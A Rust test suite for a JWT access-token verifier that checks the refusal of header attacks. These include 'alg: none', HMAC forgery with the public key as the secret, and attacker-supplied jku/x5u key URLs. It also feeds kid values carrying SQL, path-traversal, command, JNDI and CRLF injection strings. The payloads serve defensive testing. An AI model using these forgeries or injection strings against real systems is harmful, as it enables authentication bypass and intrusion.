//! The header picks among what is allowed, and decides nothing else (threats HDR-01 to HDR-16).
#![allow(
    clippy::unwrap_used,
    clippy::arithmetic_side_effects,
    clippy::indexing_slicing,
    reason = "helpers of tests"
)]

mod common;

use aws_lc_rs::hmac;
use bearergate::{
    Algorithm,
    AuthErrorKind::{
        AlgorithmNotAllowed, CriticalExtension, InvalidSignature, MalformedToken, UnknownKey, WrongType,
    },
    ConfigError, Issuer, Profile, ResourceServer,
    testing::{TestIssuer, TokenBuilder},
};
use common::{
    Api, ISSUER, NOW, RESOURCE, StillClock, encode, es256, issuer, jwk,
    keys::{EdPair, RsaPair, member, pem, pkcs1_der, point, spki_der},
    over_segments, segments, set, signed, supported, trusted, with, without,
};
use serde_json::{Value, json};

#[test]
fn hdr_01_alg_none() {
    let (issuer, api) = es256();
    let token = issuer.token();
    api.accepts(&token.mint(), "untouched");
    for none in ["none", "None", "NONE", "nOnE", "noNe", "none ", " none", "none\0", "null", "nоne"] {
        let unsigned = token.clone().header("alg", none);
        for unsigned in [unsigned.clone(), unsigned.without_header("kid")] {
            let minted = unsigned.mint();
            let [header, payload, signature] = segments(&minted);
            api.refuses(&minted, AlgorithmNotAllowed, format!("{none:?} with a signature"));
            api.refuses(&format!("{header}.{payload}."), AlgorithmNotAllowed, format!("{none:?} without"));
            api.refuses(&format!("{header}.{payload}"), MalformedToken, format!("{none:?}, two segments"));
            api.refuses(&format!("{header}.{payload}..{signature}"), MalformedToken, none);
        }
    }
    let minted = token.mint();
    let [header, payload, _] = segments(&minted);
    api.refuses(&format!("{header}.{payload}."), InvalidSignature, "a good header without a signature");
}

#[test]
fn hdr_01_none_cannot_be_allowed() {
    for name in ["none", "None", "NONE", "nOnE", ""] {
        assert_eq!(Algorithm::from_name(name), None, "{name}");
    }
    for algorithm in Algorithm::ALL {
        assert!(!algorithm.name().eq_ignore_ascii_case("none"));
        assert_eq!(Algorithm::from_name(algorithm.name()), Some(*algorithm));
    }
}

#[test]
fn hdr_02_alg_is_not_exactly_an_allowed_name() {
    let (issuer, api) = es256();
    let token = issuer.token();
    api.accepts(&token.mint(), "untouched");
    api.refuses(&token.clone().without_header("alg").mint(), AlgorithmNotAllowed, "missing");
    for alg in [
        json!(null),
        json!(""),
        json!(256),
        json!(true),
        json!(["ES256"]),
        json!({"ES256": true}),
        json!([]),
        json!("es256"),
        json!("Es256"),
        json!("eS256"),
        json!(" ES256"),
        json!("ES256 "),
        json!("ES256\n"),
        json!("ES256\0"),
        json!("ES-256"),
        json!("ЕS256"),
        json!("ES256,ES384"),
        json!("ES2566"),
        json!("ES25"),
        json!("SHA256withECDSA"),
        json!("http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"),
    ] {
        api.refuses(&token.clone().header("alg", &alg).mint(), AlgorithmNotAllowed, &alg);
    }
    let other_name = token.header_json().replace(r#""alg""#, r#""Alg""#);
    api.refuses(&token.clone().header_text(other_name).mint(), AlgorithmNotAllowed, "Alg");
}

#[test]
fn hdr_02_an_algorithm_that_is_not_on_the_list() {
    // The key is there, and its own `alg` fits: the list alone decides.
    let issuer = issuer([Algorithm::Es256, Algorithm::Es384, Algorithm::EdDsa]);
    let by = |algorithm| issuer.token_by(algorithm).mint();
    let default = Api::trusting([trusted(&issuer)]);
    default.accepts(&by(Algorithm::Es256), "ES256 by default");
    default.accepts(&by(Algorithm::EdDsa), "EdDSA by default");
    default.refuses(&by(Algorithm::Es384), AlgorithmNotAllowed, "ES384 by default");
    let narrow = Api::trusting([trusted(&issuer).algorithms([Algorithm::Es384])]);
    narrow.accepts(&by(Algorithm::Es384), "ES384 when listed");
    narrow.refuses(&by(Algorithm::Es256), AlgorithmNotAllowed, "ES256 when not listed");
    narrow.refuses(&by(Algorithm::EdDsa), AlgorithmNotAllowed, "EdDSA when not listed");
}

#[test]
fn hdr_02_the_default_list() {
    let default: Vec<_> = Algorithm::ALL.iter().filter(|algorithm| algorithm.is_default()).collect();
    let names: Vec<_> = default.iter().map(|algorithm| algorithm.name()).collect();
    assert_eq!(names, ["ES256", "Ed25519", "EdDSA", "PS256", "RS256"]);
}

/// Every text that an attacker has who knows the public key.
fn public_texts(jwk: &Value, jwks: &str) -> Vec<(&'static str, Vec<u8>)> {
    let spki = spki_der(jwk);
    let spki_pem = pem("PUBLIC KEY", &spki);
    let mut texts = vec![
        ("nothing", Vec::new()),
        ("PEM", spki_pem.clone().into()),
        ("PEM without the last line end", spki_pem.trim_end().into()),
        ("PEM with CRLF", spki_pem.replace('\n', "\r\n").into()),
        ("PEM without frame", encode(&spki).into()),
        ("DER", spki),
        ("JWK", jwk.to_string().into()),
        ("JWK Set", jwks.into()),
        ("kid", jwk["kid"].as_str().unwrap().into()),
    ];
    for name in ["n", "e", "x", "y"] {
        if let Some(text) = jwk[name].as_str() {
            texts.push((name, member(jwk, name)));
            texts.push((name, text.into()));
        }
    }
    match jwk["kty"].as_str() {
        Some("RSA") => {
            let pkcs1 = pkcs1_der(jwk);
            texts.push(("PKCS#1 PEM", pem("RSA PUBLIC KEY", &pkcs1).into()));
            texts.push(("PKCS#1", pkcs1));
        }
        Some("EC") => {
            texts.push(("point", point(jwk)));
            texts.push(("x and y", point(jwk)[1..].to_vec()));
            let compressed = [&[2 | (point(jwk)[64] & 1)], point(jwk)[1..33].as_ref()].concat();
            texts.push(("compressed point", compressed));
        }
        _ => (),
    }
    texts
}

fn forge_with_hmac(token: &TokenBuilder, alg: &str, secret: &[u8]) -> String {
    let algorithm = match alg {
        "HS256" => hmac::HMAC_SHA256,
        "HS384" => hmac::HMAC_SHA384,
        _ => hmac::HMAC_SHA512,
    };
    let token = token.clone().header("alg", alg);
    let key = hmac::Key::new(algorithm, secret);
    signed(&token, |message| hmac::sign(&key, message).as_ref().to_vec())
}

#[test]
fn hdr_03_public_key_as_hmac_secret() {
    let (rsa, ed) = (RsaPair::rfc7520(), EdPair::new());
    let ec = issuer([Algorithm::Es256]);
    let token = ec.token();
    let ec_jwk = jwk(&ec, Algorithm::Es256);
    let rs256 = signed(&token.clone().header("alg", "RS256"), |message| rsa.rs256(message));
    let eddsa = signed(&token.clone().header("alg", "EdDSA"), |message| ed.sign(message));
    let kid = ec_jwk["kid"].as_str().unwrap();
    for (jwk, good) in [(rsa.jwk(kid), rs256), (ed.jwk(kid), eddsa), (ec_jwk.clone(), token.mint())] {
        let jwks = set([jwk.clone()]);
        let with_alg = set([with(jwk.clone(), "alg", "HS256")]);
        let with_pem = Issuer::pem(ISSUER, pem("PUBLIC KEY", &spki_der(&jwk)));
        let by_jwks = Api::trusting([Issuer::jwks(ISSUER, jwks.as_str())]);
        let by_pem = Api::trusting([with_pem]);
        let by_lying_jwks = Api::trusting([Issuer::jwks(ISSUER, with_alg.as_str())]);
        by_jwks.accepts(&good, "the real key");
        by_pem.accepts(&good, "the real key");
        for (what, secret) in public_texts(&jwk, &jwks) {
            for alg in ["HS256", "HS384", "HS512"] {
                for token in [token.clone(), token.clone().without_header("kid")] {
                    let forged = forge_with_hmac(&token, alg, &secret);
                    for api in [&by_jwks, &by_pem, &by_lying_jwks] {
                        api.refuses(&forged, AlgorithmNotAllowed, format!("{alg} with {what} of {jwk}"));
                    }
                }
            }
        }
    }
}

#[test]
fn hdr_03_an_hmac_under_the_name_of_the_real_algorithm() {
    let (issuer, api) = es256();
    let token = issuer.token();
    api.accepts(&token.mint(), "untouched");
    let jwk = jwk(&issuer, Algorithm::Es256);
    for (what, secret) in public_texts(&jwk, &issuer.jwks()) {
        let key = hmac::Key::new(hmac::HMAC_SHA512, &secret);
        // 64 octets, as the algorithm wants them.
        let forged = signed(&token, |message| hmac::sign(&key, message).as_ref().to_vec());
        api.refuses(&forged, InvalidSignature, what);
    }
}

#[test]
fn hdr_03_hmac_cannot_be_allowed_for_public_keys() {
    let jwks = issuer([Algorithm::Es256]).jwks();
    let build = |issuer: Issuer| ResourceServer::builder(RESOURCE).trust(issuer).build();
    for algorithm in [Algorithm::Hs256, Algorithm::Hs384, Algorithm::Hs512] {
        for issuer in [
            Issuer::jwks(ISSUER, jwks.as_str()),
            Issuer::jwks_uri(ISSUER, "https://issuer.example/jwks"),
            Issuer::discover(ISSUER),
            Issuer::pem(ISSUER, pem("PUBLIC KEY", &spki_der(&EdPair::new().jwk("ed")))),
        ] {
            let error = build(issuer.clone().algorithms([Algorithm::Es256, algorithm])).unwrap_err();
            assert!(matches!(error, ConfigError::SymmetricAlgorithm { .. }), "{algorithm}: {error}");
        }
    }
    assert!(build(Issuer::jwks(ISSUER, jwks).algorithms([Algorithm::Es256])).is_ok());
}

#[test]
fn hdr_04_the_key_is_of_another_type_curve_or_alg() {
    let es512 = supported(Algorithm::Es512).then_some(Algorithm::Es512);
    let issuer = issuer([Algorithm::Es256, Algorithm::Es384, Algorithm::EdDsa].into_iter().chain(es512));
    let mut all = vec![
        Algorithm::Es256,
        Algorithm::Es384,
        Algorithm::EdDsa,
        Algorithm::Ed25519,
        Algorithm::Rs256,
        Algorithm::Rs512,
        Algorithm::Ps256,
    ];
    all.extend(es512);
    let rsa = RsaPair::rfc7520();
    let key = |algorithm| with(jwk(&issuer, algorithm), "kid", "k");
    let trust = |key: Value| Api::trusting([Issuer::jwks(ISSUER, set([key])).algorithms(all.clone())]);
    let token = issuer.token().header("kid", "k");
    let ec = |algorithm| issuer.token_by(algorithm).header("kid", "k").mint();
    let rs256 = signed(&token.clone().header("alg", "RS256"), |message| rsa.rs256(message));
    let ps256 = signed(&token.clone().header("alg", "PS256"), |message| rsa.ps256(message, 32));
    let mut tokens = vec![
        ("ES256", ec(Algorithm::Es256)),
        ("ES384", ec(Algorithm::Es384)),
        ("EdDSA", ec(Algorithm::EdDsa)),
        ("RS256", rs256),
        ("PS256", ps256),
    ];
    tokens.extend(es512.map(|es512| ("ES512", ec(es512))));
    let plain_rsa = rsa.jwk("k");
    let es512_key = es512.map(|es512| (&["ES512"][..], without(key(es512), "alg")));
    let others = [
        (&["ES256"][..], without(key(Algorithm::Es256), "alg")),
        (&["ES256"], key(Algorithm::Es256)),
        (&["ES384"], without(key(Algorithm::Es384), "alg")),
        (&["EdDSA"], without(key(Algorithm::EdDsa), "alg")),
        (&["RS256", "PS256"], plain_rsa.clone()),
        (&["RS256"], with(plain_rsa.clone(), "alg", "RS256")),
        (&["PS256"], with(plain_rsa.clone(), "alg", "PS256")),
        (&[], with(plain_rsa.clone(), "alg", "RS512")),
        // A key whose members contradict each other is nobody's.
        (&[], with(plain_rsa.clone(), "alg", "ES256")),
        (&[], with(plain_rsa, "alg", "EdDSA")),
        (&[], with(key(Algorithm::Es256), "alg", "RS256")),
        (&[], with(key(Algorithm::Es256), "alg", "ES384")),
        (&[], with(key(Algorithm::Es256), "crv", "P-384")),
        (&[], with(key(Algorithm::Es384), "crv", "P-256")),
        (&[], with(key(Algorithm::EdDsa), "alg", "ES256")),
    ];
    for (takes, key) in others.into_iter().chain(es512_key) {
        let api = trust(key.clone());
        for (algorithm, token) in &tokens {
            if takes.contains(algorithm) {
                api.accepts(token, format!("{algorithm} with {key}"));
            } else {
                api.refuses(token, UnknownKey, format!("{algorithm} with {key}"));
            }
        }
    }
}

/// A key pair, an API that trusts its public half for both paddings, and a token for it.
fn rsa() -> (RsaPair, Api, TokenBuilder) {
    let pair = RsaPair::rfc7520();
    let api = Api::trusting([Issuer::jwks(ISSUER, set([pair.jwk("rsa")]))]);
    (pair, api, issuer([Algorithm::Es256]).token().header("kid", "rsa"))
}

#[test]
fn hdr_05_one_padding_under_the_name_of_the_other() {
    let (pair, api, token) = rsa();
    let (rs256, ps256) = (token.clone().header("alg", "RS256"), token.header("alg", "PS256"));
    api.accepts(&signed(&rs256, |message| pair.rs256(message)), "RS256");
    api.accepts(&signed(&ps256, |message| pair.ps256(message, 32)), "PS256");
    api.refuses(&signed(&rs256, |message| pair.ps256(message, 32)), InvalidSignature, "PS256 as RS256");
    api.refuses(&signed(&ps256, |message| pair.rs256(message)), InvalidSignature, "RS256 as PS256");
}

#[test]
fn hdr_05_pss_salt_of_another_length() {
    let (pair, api, token) = rsa();
    let token = token.header("alg", "PS256");
    api.accepts(&signed(&token, |message| pair.ps256(message, 32)), "as long as the hash");
    // 222 is the longest that fits, and the default of some libraries.
    for length in [0, 1, 8, 20, 31, 33, 48, 64, 222] {
        let token = signed(&token, |message| pair.ps256(message, length));
        api.refuses(&token, InvalidSignature, format!("salt of {length} octets"));
    }
}

#[test]
fn hdr_06_eddsa_and_ed25519_are_two_names() {
    let pair = EdPair::new();
    let builder = issuer([Algorithm::Es256]).token().header("kid", "ed");
    let token = |alg| signed(&builder.clone().header("alg", alg), |message| pair.sign(message));
    let (eddsa, ed25519) = (token("EdDSA"), token("Ed25519"));
    let trust = |key, list: &[Algorithm]| {
        Api::trusting([Issuer::jwks(ISSUER, set([key])).algorithms(list.iter().copied())])
    };
    let (old, new) = (Algorithm::EdDsa, Algorithm::Ed25519);

    let api = trust(pair.jwk("ed"), &[old]);
    api.accepts(&eddsa, "EdDSA listed");
    api.refuses(&ed25519, AlgorithmNotAllowed, "only EdDSA listed");
    let api = trust(pair.jwk("ed"), &[new]);
    api.accepts(&ed25519, "Ed25519 listed");
    api.refuses(&eddsa, AlgorithmNotAllowed, "only Ed25519 listed");
    let api = trust(pair.jwk("ed"), &[old, new]);
    api.accepts(&eddsa, "both listed");
    api.accepts(&ed25519, "both listed");
    let api = trust(with(pair.jwk("ed"), "alg", "EdDSA"), &[old, new]);
    api.accepts(&eddsa, "the key says EdDSA");
    api.refuses(&ed25519, UnknownKey, "the key says EdDSA");
    let api = trust(with(pair.jwk("ed"), "alg", "Ed25519"), &[old, new]);
    api.accepts(&ed25519, "the key says Ed25519");
    api.refuses(&eddsa, UnknownKey, "the key says Ed25519");
    for name in ["ed25519", "Eddsa", "EDDSA", "Ed448"] {
        api.refuses(&token(name), AlgorithmNotAllowed, name);
    }
}

/// Header parameters that offer a key, good or damaged.
fn offers(jwk: &Value) -> Vec<(&'static str, Value)> {
    let certificate = json!([base64_standard(&spki_der(jwk))]);
    vec![
        ("jwk", jwk.clone()),
        ("jwk", json!(null)),
        ("jwk", json!("text")),
        ("jwk", json!({})),
        ("jku", json!("https://attacker.example/jwks")),
        ("jku", json!("http://169.254.169.254/latest/meta-data")),
        ("jku", json!("file:///etc/passwd")),
        ("jku", json!(5)),
        ("x5u", json!("https://attacker.example/certificate.pem")),
        ("x5u", json!(["https://attacker.example"])),
        ("x5c", certificate),
        ("x5c", json!([])),
        ("x5c", json!("not a list")),
        ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("x5t#S256", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("x5t#S256", json!(false)),
    ]
}

fn base64_standard(octets: &[u8]) -> String {
    use base64::{Engine as _, engine::general_purpose::STANDARD};
    STANDARD.encode(octets)
}

#[test]
fn hdr_07_keys_offered_by_the_token_are_ignored() {
    let (issuer, api) = es256();
    // Someone else, who calls himself the issuer and names his key like the real one.
    let rogue = common::issuer([Algorithm::Es256]);
    let rogue_jwk = jwk(&rogue, Algorithm::Es256);
    let real_jwk = jwk(&issuer, Algorithm::Es256);
    let rogue_named = rogue.token().header("kid", "rogue");
    for (name, value) in offers(&rogue_jwk) {
        let what = format!("{name}: {value}");
        api.accepts(&issuer.token().header(name, &value).mint(), format!("good, {what}"));
        api.refuses(&rogue.token().header(name, &value).mint(), InvalidSignature, &what);
        api.refuses(
            &rogue.token().without_header("kid").header(name, &value).mint(),
            InvalidSignature,
            &what,
        );
        api.refuses(&rogue_named.clone().header(name, &value).mint(), UnknownKey, &what);
    }
    api.accepts(&issuer.token().header("jwk", &real_jwk).mint(), "its own key");
    api.refuses(&rogue.token().header("jwk", &real_jwk).mint(), InvalidSignature, "the real key, unused");
}

#[test]
fn hdr_08_kid_is_no_string() {
    let (issuer, api) = es256();
    let token = issuer.token();
    api.accepts(&token.mint(), "untouched");
    for kid in [json!(null), json!(0), json!(1.5), json!(true), json!(["es256-0"]), json!({"kid": "es256-0"})]
    {
        api.refuses(&token.clone().header("kid", &kid).mint(), MalformedToken, &kid);
    }
}

#[test]
fn hdr_09_kid_is_only_compared() {
    let (issuer, api) = es256();
    let token = issuer.token();
    api.accepts(&token.mint(), "untouched");
    let real = jwk(&issuer, Algorithm::Es256)["kid"].as_str().unwrap().to_owned();
    let kids = [
        "../../../../dev/null".to_owned(),
        "/etc/passwd".to_owned(),
        "keys/es256-0".to_owned(),
        "..\\..\\windows\\win.ini".to_owned(),
        "x' UNION SELECT 'secret'; --".to_owned(),
        "' OR '1'='1".to_owned(),
        "| whoami".to_owned(),
        "${jndi:ldap://attacker.example/a}".to_owned(),
        "{{7*7}}".to_owned(),
        "http://127.0.0.1:1/jwks".to_owned(),
        "https://attacker.example/jwks".to_owned(),
        "a\r\nX-Evil: 1".to_owned(),
        "\0".to_owned(),
        "\u{1b}[31m".to_owned(),
        "\u{202e}".to_owned(),
        "\"quoted\\\"".to_owned(),
        "*".to_owned(),
        "%".to_owned(),
        " ".to_owned(),
        String::new(),
        real.to_uppercase(),
        format!(" {real}"),
        format!("{real} "),
        format!("{real}\0"),
        format!("{real}/"),
        real[..real.len() - 1].to_owned(),
        real.replace('-', "%2d"),
        "k".repeat(9 * 1024),
    ];
    for kid in &kids {
        // `refuses` compares the whole challenge: nothing of the kid stands in it.
        api.refuses(&token.clone().header("kid", kid).mint(), UnknownKey, format!("{kid:?}"));
    }
    // The neighbour: a key that really has such a name is found by it, and only by it.
    for kid in &kids {
        let jwk = with(jwk(&issuer, Algorithm::Es256), "kid", kid.as_str());
        let api = Api::trusting([Issuer::jwks(ISSUER, set([jwk]))]);
        api.accepts(&token.clone().header("kid", kid).mint(), format!("{kid:?}"));
        api.refuses(&token.mint(), UnknownKey, format!("{kid:?} is not {real}"));
    }
}

#[test]
fn hdr_10_no_kid() {
    let one = issuer([Algorithm::Es256]);
    let two = issuer([Algorithm::Es256]);
    let ed = EdPair::new();
    let (first, second) = (jwk(&one, Algorithm::Es256), with(jwk(&two, Algorithm::Es256), "kid", "second"));
    let token = one.token().without_header("kid").mint();
    let trust =
        |keys: &[&Value]| Api::trusting([Issuer::jwks(ISSUER, set(keys.iter().map(|key| (*key).clone())))]);
    let nameless = without(first.clone(), "kid");

    trust(&[&first]).accepts(&token, "the only key");
    trust(&[&nameless]).accepts(&token, "the only key, which has no name");
    trust(&[&first, &ed.jwk("ed")]).accepts(&token, "the only one for the algorithm");
    trust(&[&with(second.clone(), "use", "enc"), &first]).accepts(&token, "the only one for signatures");
    trust(&[&with(second.clone(), "alg", "ECDH-ES"), &first]).accepts(&token, "the only one that fits");
    trust(&[&with(second.clone(), "key_ops", json!(["sign"])), &first]).accepts(&token, "the only to verify");

    trust(&[&first, &second]).refuses(&token, UnknownKey, "two keys");
    trust(&[&second, &first]).refuses(&token, UnknownKey, "two keys, the other way round");
    trust(&[&first, &first]).refuses(&token, UnknownKey, "one key twice");
    trust(&[&nameless, &second]).refuses(&token, UnknownKey, "one without a name");
    trust(&[&second]).refuses(&token, InvalidSignature, "another key alone");
    trust(&[&ed.jwk("ed")]).refuses(&token, UnknownKey, "no key for the algorithm");
    trust(&[&first, &second]).accepts(&one.token().mint(), "two keys, and a kid");
}

#[test]
fn hdr_10_an_empty_kid_is_a_kid() {
    let issuer = issuer([Algorithm::Es256]);
    let named = jwk(&issuer, Algorithm::Es256);
    let (empty, nameless) = (with(named.clone(), "kid", ""), without(named.clone(), "kid"));
    let trust = |key: Value| Api::trusting([Issuer::jwks(ISSUER, set([key]))]);
    let token = issuer.token().header("kid", "").mint();
    trust(empty).accepts(&token, "the key's name is empty");
    trust(named).refuses(&token, UnknownKey, "the key has another name");
    trust(nameless.clone()).refuses(&token, UnknownKey, "the key has no name");
    trust(nameless).refuses(&issuer.token().mint(), UnknownKey, "a name, where the key has none");
}

#[test]
fn hdr_11_crit() {
    let (issuer, api) = es256();
    let token = issuer.token();
    api.accepts(&token.mint(), "untouched");
    for crit in [
        json!(["exp"]),
        json!(["b64"]),
        json!(["http://example.com/UNDEFINED"]),
        json!([]),
        json!(null),
        json!("exp"),
        json!(""),
        json!({}),
        json!(5),
        json!(true),
        json!(["exp", "exp"]),
        json!(["alg"]),
        json!(["kid", "typ"]),
        json!(["crit"]),
        json!([""]),
        json!([5]),
        json!([null]),
        json!([["exp"]]),
    ] {
        let critical = token.clone().header("crit", &crit).header("exp", 1);
        api.refuses(&critical.mint(), CriticalExtension, &crit);
        api.refuses(&token.clone().header("crit", &crit).mint(), CriticalExtension, &crit);
    }
    let escaped = token.header_json().replacen('{', r#"{"\u0063rit":["exp"],"#, 1);
    api.refuses(&token.clone().header_text(escaped).mint(), CriticalExtension, "written with an escape");
    api.accepts(&token.clone().header("Crit", json!(["exp"])).mint(), "another parameter, Crit");
    api.accepts(&token.header("exp", 1).mint(), "a parameter that nothing calls critical");
}

#[test]
fn hdr_12_b64_false() {
    let (issuer, api) = es256();
    let token = issuer.token();
    api.accepts(&token.mint(), "untouched");
    let without_crit = token.clone().header("b64", false);
    let with_crit = without_crit.clone().header("crit", json!(["b64"]));
    for (what, token) in [("without crit", &without_crit), ("with crit", &with_crit)] {
        api.refuses(&token.mint(), CriticalExtension, format!("encoded all the same, {what}"));
        let header = encode(token.header_json());
        let payload = token.payload_json();
        // RFC 7797 §3: the payload stands in the signing input as it is. Our payload has dots.
        let unencoded = over_segments(&header, &payload, |input| token.sign(input));
        api.refuses(&unencoded, MalformedToken, format!("unencoded, {what}"));
        let dotless = over_segments(&header, r#"{"iss":"x"}"#, |input| token.sign(input));
        api.refuses(&dotless, CriticalExtension, format!("unencoded without dots, {what}"));
    }
}

#[test]
fn hdr_12_detached_payload() {
    let (issuer, api) = es256();
    let token = issuer.token().mint();
    let [header, payload, signature] = segments(&token);
    api.accepts(&token, "untouched");
    api.refuses(&format!("{header}..{signature}"), MalformedToken, "detached");
    let over_nothing = over_segments(header, "", |input| issuer.token().sign(input));
    api.refuses(&over_nothing, MalformedToken, "detached, the signature over the header alone");
    api.refuses(&format!("{header}..{payload}.{signature}"), MalformedToken, "behind an empty payload");
}

#[test]
fn hdr_13_tokens_of_another_kind() {
    let issuer = issuer([Algorithm::Es256]);
    for profile in [Profile::Lenient, Profile::Rfc9068] {
        let api = Api::trusting([trusted(&issuer).profile(profile)]);
        api.accepts(&issuer.token().mint(), "untouched");
        for kind in [
            "dpop+jwt",
            "logout+jwt",
            "secevent+jwt",
            "token-introspection+jwt",
            "oauth-authz-req+jwt",
            "client-authentication+jwt",
            "entity-statement+jwt",
            "id_token+jwt",
            "passport",
        ] {
            for typ in [kind.to_owned(), kind.to_uppercase(), format!("application/{kind}")] {
                api.refuses(
                    &issuer.token().header("typ", &typ).mint(),
                    WrongType,
                    format!("{typ} {profile:?}"),
                );
            }
        }
    }
}

/// What says "access token".
const ACCESS_TOKEN: [&str; 5] = ["at+jwt", "AT+JWT", "At+Jwt", "application/at+jwt", "APPLICATION/AT+JWT"];

/// What says no more than "JWT".
const JWT: [&str; 5] = ["JWT", "jwt", "Jwt", "application/jwt", "Application/JWT"];

/// What says neither.
fn other_types() -> Vec<Value> {
    vec![
        json!(""),
        json!("JOSE"),
        json!("JWS"),
        json!("at"),
        json!("at+jwt+jwt"),
        json!("at jwt"),
        json!(" at+jwt"),
        json!("at+jwt "),
        json!("at+jwt; charset=utf-8"),
        json!("JWT;x=1"),
        json!("application/"),
        json!("application/application/at+jwt"),
        json!("text/at+jwt"),
        json!("text/plain; at+jwt"),
        json!("application:at+jwt"),
        json!("123456789012at+jwt"),
        json!("x/at+jwt"),
        json!("/at+jwt"),
        json!("äpplication/at+jwt"),
        json!(null),
        json!(5),
        json!(true),
        json!(["at+jwt"]),
        json!({"typ": "at+jwt"}),
    ]
}

#[test]
fn hdr_14_typ_in_lenient_mode() {
    let (issuer, api) = es256();
    for typ in ACCESS_TOKEN.iter().chain(&JWT) {
        api.accepts(&issuer.token().header("typ", typ).mint(), typ);
    }
    api.accepts(&issuer.token().without_header("typ").mint(), "absent");
    let escaped = issuer.token().header_json().replace("at+jwt", r"\u0061t+jwt");
    api.accepts(&issuer.token().header_text(escaped).mint(), "written with an escape");
    for typ in other_types() {
        api.refuses(&issuer.token().header("typ", &typ).mint(), WrongType, &typ);
    }
}

#[test]
fn hdr_14_typ_in_strict_mode() {
    let issuer = issuer([Algorithm::Es256]);
    let api = Api::trusting([trusted(&issuer).profile(Profile::Rfc9068)]);
    for typ in ACCESS_TOKEN {
        api.accepts(&issuer.token().header("typ", typ).mint(), typ);
    }
    for typ in JWT {
        api.refuses(&issuer.token().header("typ", typ).mint(), WrongType, typ);
    }
    api.refuses(&issuer.token().without_header("typ").mint(), WrongType, "absent");
    for typ in other_types() {
        api.refuses(&issuer.token().header("typ", &typ).mint(), WrongType, &typ);
    }
}

#[test]
fn hdr_15_enc_in_three_parts() {
    let (issuer, api) = es256();
    let token = issuer.token();
    api.accepts(&token.mint(), "untouched");
    for enc in [json!("A256GCM"), json!("A128CBC-HS256"), json!(""), json!(null), json!(5)] {
        api.refuses(&token.clone().header("enc", &enc).mint(), WrongType, &enc);
    }
    api.accepts(&token.header("encoding", "A256GCM").mint(), "another parameter, encoding");
}

#[test]
fn hdr_15_jwe_algorithm_in_a_jws() {
    let (issuer, api) = es256();
    let token = issuer.token();
    api.accepts(&token.mint(), "untouched");
    for alg in
        ["RSA1_5", "RSA-OAEP", "RSA-OAEP-256", "dir", "ECDH-ES", "A128KW", "A256GCMKW", "PBES2-HS256+A128KW"]
    {
        api.refuses(&token.clone().header("alg", alg).mint(), AlgorithmNotAllowed, alg);
    }
}

#[test]
fn hdr_16_unknown_parameters_are_ignored() {
    let (issuer, api) = es256();
    for (name, value) in [
        ("x-ms-tenant", json!("contoso")),
        ("nonce", json!("n")),
        ("cty", json!("json")),
        ("", json!("empty name")),
        ("ALG", json!("none")),
        ("KID", json!(5)),
        ("Typ", json!("dpop+jwt")),
        ("org.example", json!({"nested": [1, null, {"alg": "none", "crit": ["x"], "b64": false}]})),
        ("iss", json!("https://other.example")),
    ] {
        api.accepts(&issuer.token().header(name, &value).mint(), format!("{name}: {value}"));
    }
    let many = (0..100).fold(issuer.token(), |token, number| token.header(&format!("p{number}"), number));
    api.accepts(&many.mint(), "a hundred");
}

#[test]
fn hdr_16_the_order_of_parameters_does_not_count() {
    let (issuer, api) = es256();
    let kid = jwk(&issuer, Algorithm::Es256)["kid"].as_str().unwrap().to_owned();
    for header in [
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"JWT"}}"#),
        format!(r#"{{"typ":"JWT","kid":"{kid}","alg":"ES256"}}"#),
        format!(r#"{{"kid":"{kid}","x":[],"alg":"ES256"}}"#),
    ] {
        api.accepts(&issuer.token().header_text(header.as_str()).mint(), &header);
    }
}

/// The clock of the helpers stands at the moment at which their tokens are made.
#[test]
fn the_helpers_agree_on_the_time() {
    use bearergate::{Clock as _, UnixTime};
    let issuer: TestIssuer = issuer([Algorithm::Es256]);
    let claims: Value = serde_json::from_str(&issuer.token().payload_json()).unwrap();
    assert_eq!(claims["iat"], NOW);
    assert_eq!(StillClock::at(UnixTime::from_secs(NOW)).wall(), UnixTime::from_secs(NOW));
}
